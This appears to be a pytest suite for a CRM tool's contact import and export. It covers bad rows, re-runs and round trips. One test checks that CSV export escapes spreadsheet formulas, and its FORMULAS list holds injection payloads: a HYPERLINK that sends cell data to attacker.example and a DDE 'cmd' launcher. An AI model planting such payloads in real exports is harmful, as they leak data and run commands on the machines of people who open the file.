"""`crm contacts import|export` as an operator runs them: good and bad rows, re-runs, round trip."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest


def crm(db: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_")}
    env["CRM_DATABASE_URL"] = f"sqlite:///{db}"
    env["COLUMNS"] = "200"
    result = subprocess.run(
        [sys.executable, "-m", "crm", *args],
        cwd=db.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    if check and result.returncode != 0:
        raise AssertionError(f"crm {' '.join(args)} failed:\n{result.stdout}\n{result.stderr}")
    return result


CSV = """id,code,first_name,last_name,email_address,phone,phone_country_code,tags,gender,date_of_birth,custom_fields,sms_opt_out
c-1,K1,Ann,Lee,ann@example.com,99123456,CYP,vip;b2c,FEMALE,1990-05-17,"[{""key"": ""tier"", ""value"": ""gold""}]",true
c-2,K2,Bob,Ray,bob@example.com,,,,,,,
c-3,K3,Bad,Email,not-an-email,,,,,,,
c-4,K4,Bad,Phone,,12,,,,,,
,K5,No,Id,k5@example.com,+447700900123,,,,,,false
c-6,K6,Bad,Json,,,,,,,"[{""key"": ",
c-1,K7,Dup,Id,,,,,,,,
"""


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
    root = tmp_path_factory.mktemp("cli")
    db = root / "crm.db"
    crm(db, "db", "upgrade")
    first = json.loads(crm(db, "tenants", "create", "--name", "One", "--json").stdout)["id"]
    second = json.loads(crm(db, "tenants", "create", "--name", "Two", "--json").stdout)["id"]
    for tenant in (first, second):
        defined = crm(db, "tenants", "custom-fields", tenant, "--define", "tier", "--json")
        assert json.loads(defined.stdout)[0]["key"] == "tier"
    return db, first, second


def test_import_keeps_good_rows_and_reports_bad_ones_then_rerun_is_a_no_op(
    workspace: tuple[Path, str, str],
) -> None:
    db, tenant, _ = workspace
    source = db.parent / "contacts.csv"
    source.write_text(CSV)
    report = db.parent / "rejected.csv"
    result = crm(
        db,
        "contacts",
        "import",
        str(source),
        "--tenant",
        tenant,
        "--mode",
        "live",
        "--batch-size",
        "2",
        "--report",
        str(report),
        check=False,
    )
    assert result.returncode == 1
    assert "created 3, skipped 1 (already present), rejected 3" in result.stdout
    rejected = {int(r["line"]): r["reason"] for r in csv.DictReader(report.open())}
    assert set(rejected) == {4, 5, 7}
    assert rejected[4].startswith("INVALID_EMAIL")
    assert rejected[5].startswith("INVALID_PHONE")
    assert "custom_fields" in rejected[7]

    again = crm(
        db, "contacts", "import", str(source), "--tenant", tenant, "--mode", "live", check=False
    )
    # Within one batch the repeated id c-1 (line 8) is a duplicate in the file itself.
    assert "created 0, skipped 3 (already present), rejected 4" in again.stdout

    test_mode = json.loads(
        "["
        + ",".join(
            crm(
                db, "contacts", "export", "--tenant", tenant, "--mode", "test", "--format", "jsonl"
            ).stdout.splitlines()
        )
        + "]"
    )
    assert test_mode == []
    live = [
        json.loads(line)
        for line in crm(
            db, "contacts", "export", "--tenant", tenant, "--format", "jsonl"
        ).stdout.splitlines()
    ]
    assert [c["code"] for c in live] == ["K1", "K2", "K5"]
    ann = live[0]
    assert ann["phones"][0]["number"] == "+35799123456"
    assert ann["tags"] == ["vip", "b2c"]
    assert ann["demographics"] == {
        "gender": "FEMALE",
        "date_of_birth": {"year": 1990, "month": 5, "day": 17},
        "name_day": None,
        "passport": None,
        "id_details": None,
        "statutory_number": None,
    }
    assert ann["custom_fields"] == [{"key": "tier", "value": "gold"}]
    assert ann["sms_opt_out"] is True


def test_export_csv_round_trips_through_import(workspace: tuple[Path, str, str]) -> None:
    db, _, _ = workspace
    # Tenants of its own, filled here: the test must not depend on which tests ran before it
    # (under pytest-xdist the module's tests may run on different workers, in any order).
    tenant = json.loads(crm(db, "tenants", "create", "--name", "Round", "--json").stdout)["id"]
    other = json.loads(crm(db, "tenants", "create", "--name", "Trip", "--json").stdout)["id"]
    source = db.parent / "round-trip.csv"
    source.write_text(CSV)
    filled = crm(
        db, "contacts", "import", str(source), "--tenant", tenant, "--mode", "live", check=False
    )
    assert "created 3," in filled.stdout
    exported = db.parent / "round-trip-export.csv"
    crm(db, "contacts", "export", "--tenant", tenant, "--format", "csv", "--output", str(exported))
    result = crm(db, "contacts", "import", str(exported), "--tenant", other, "--mode", "live")
    assert "created 3, skipped 0" in result.stdout

    def rows(tenant_id: str) -> list[dict[str, str]]:
        text = crm(db, "contacts", "export", "--tenant", tenant_id, "--format", "csv").stdout
        return [
            {k: v for k, v in row.items() if k not in {"created_date", "updated_date"}}
            for row in csv.DictReader(io.StringIO(text))
        ]

    assert rows(other) == rows(tenant)
    assert len(rows(other)) == 3


def test_export_jsonl_round_trips_through_import_and_bad_lines_are_rejected(
    workspace: tuple[Path, str, str],
) -> None:
    db, _, _ = workspace
    tenant = json.loads(crm(db, "tenants", "create", "--name", "Lines", "--json").stdout)["id"]
    other = json.loads(crm(db, "tenants", "create", "--name", "Copy", "--json").stdout)["id"]
    source = db.parent / "lines.csv"
    source.write_text(CSV)
    crm(db, "contacts", "import", str(source), "--tenant", tenant, "--mode", "live", check=False)
    exported = db.parent / "lines.jsonl"
    crm(
        db, "contacts", "export", "--tenant", tenant, "--format", "jsonl", "--output", str(exported)
    )
    # Told by the extension; a bad line is rejected by its number, the others imported.
    exported.write_text(exported.read_text() + '{"first_name": 7}\n')
    result = crm(
        db, "contacts", "import", str(exported), "--tenant", other, "--mode", "live", check=False
    )
    assert result.returncode == 1
    assert "created 3, skipped 0 (already present), rejected 1" in result.stdout
    assert "WRONG_TYPE: line 4" in result.stderr

    def rows(text: str) -> list[dict[str, object]]:
        rows = [json.loads(line) for line in text.splitlines()]
        for row in rows:
            del row["created_date"], row["updated_date"]
            for phone in row["phones"]:
                del phone["id"]
        return rows

    copied = crm(db, "contacts", "export", "--tenant", other, "--format", "jsonl").stdout
    assert len(rows(copied)) == 3
    assert rows(copied) == rows("\n".join(exported.read_text().splitlines()[:3]))
    # --format says it for a file whose name does not.
    renamed = db.parent / "lines.txt"
    renamed.write_text(exported.read_text())
    again = crm(
        db,
        "contacts",
        "import",
        str(renamed),
        "--format",
        "jsonl",
        "--tenant",
        other,
        "--mode",
        "live",
        check=False,
    )
    assert "created 0, skipped 3 (already present), rejected 1" in again.stdout


def test_unknown_tenant_is_refused(workspace: tuple[Path, str, str]) -> None:
    db, _, _ = workspace
    result = crm(db, "contacts", "export", "--tenant", "nope", check=False)
    assert result.returncode == 1
    assert "TENANT_NOT_FOUND" in result.stderr


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_csv_export_escapes_formulas_and_import_reads_them_back(
    workspace: tuple[Path, str, str],
) -> None:
    db, _, _ = workspace
    source_tenant = json.loads(crm(db, "tenants", "create", "--name", "Src", "--json").stdout)
    target_tenant = json.loads(crm(db, "tenants", "create", "--name", "Dst", "--json").stdout)
    source = db.parent / "formulas.csv"
    with source.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "first_name", "last_name"])
        for n, name in enumerate(FORMULAS):
            writer.writerow([f"f-{n}", name, "Formula"])
    imported = crm(
        db, "contacts", "import", str(source), "--tenant", source_tenant["id"], "--mode", "live"
    )
    assert f"created {len(FORMULAS)}" in imported.stdout

    exported = db.parent / "formulas-export.csv"
    crm(
        db,
        "contacts",
        "export",
        "--tenant",
        source_tenant["id"],
        "--format",
        "csv",
        "--output",
        str(exported),
    )
    with exported.open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    # No cell a spreadsheet would run: each formula is shown as text behind a `'`.
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    with exported.open(newline="") as handle:
        names = {row["id"]: row["first_name"] for row in csv.DictReader(handle)}
    assert names == {f"f-{n}": "'" + name for n, name in enumerate(FORMULAS)}

    # JSON lines are not for spreadsheets: the values stay as they are.
    lines = crm(
        db, "contacts", "export", "--tenant", source_tenant["id"], "--format", "jsonl"
    ).stdout.splitlines()
    assert sorted(json.loads(line)["first_name"] for line in lines) == sorted(FORMULAS)

    # The export re-imports to the very same names.
    crm(db, "contacts", "import", str(exported), "--tenant", target_tenant["id"], "--mode", "live")
    lines = crm(
        db, "contacts", "export", "--tenant", target_tenant["id"], "--format", "jsonl"
    ).stdout.splitlines()
    assert sorted(json.loads(line)["first_name"] for line in lines) == sorted(FORMULAS)
